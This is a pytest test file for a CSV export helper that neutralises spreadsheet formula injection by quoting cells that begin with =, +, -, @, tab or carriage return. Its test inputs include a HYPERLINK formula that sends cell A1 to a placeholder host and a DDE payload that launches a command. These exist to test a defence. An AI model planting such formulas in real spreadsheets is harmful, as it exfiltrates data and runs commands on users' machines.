"""Exported CSV cells are inert: a spreadsheet shows them as text, never computes them."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from console.services.csv_cells import csv_text, inert


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://x/?"&A1,"x")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "=",
        "- follow-up",
    ],
)
def test_a_text_that_starts_like_a_formula_gets_a_quote(typed: str) -> None:
    assert inert(typed) == "'" + typed


@pytest.mark.parametrize("typed", ["follow-up", "a=b", "mrossi@comune.cremona.it", "", " =1"])
def test_other_texts_are_written_as_they_are(typed: str) -> None:
    assert inert(typed) == typed


@pytest.mark.parametrize("number", [-3, -12.5, Decimal("-4.20"), 0, 7])
def test_numbers_stay_numbers(number: object) -> None:
    assert inert(number) == number


@pytest.mark.parametrize("typed", ["-3", "-12.50", "+7", "12"])
def test_a_text_that_is_just_a_number_stays_a_number(typed: str) -> None:
    # A spreadsheet reads it as that number: it cannot compute anything, and a quote would make
    # a column meant for sums into text.
    assert inert(typed) == typed


def test_none_is_an_empty_cell_and_booleans_are_text() -> None:
    assert (inert(None), inert(True)) == ("", "True")


def test_every_cell_of_the_text_is_inert_header_included() -> None:
    text = csv_text(["id", "=header"], [[1, "=1+1"], [-2, 'a "quoted", text']])
    assert list(csv.reader(io.StringIO(text))) == [
        ["id", "'=header"],
        ["1", "'=1+1"],
        ["-2", 'a "quoted", text'],
    ]
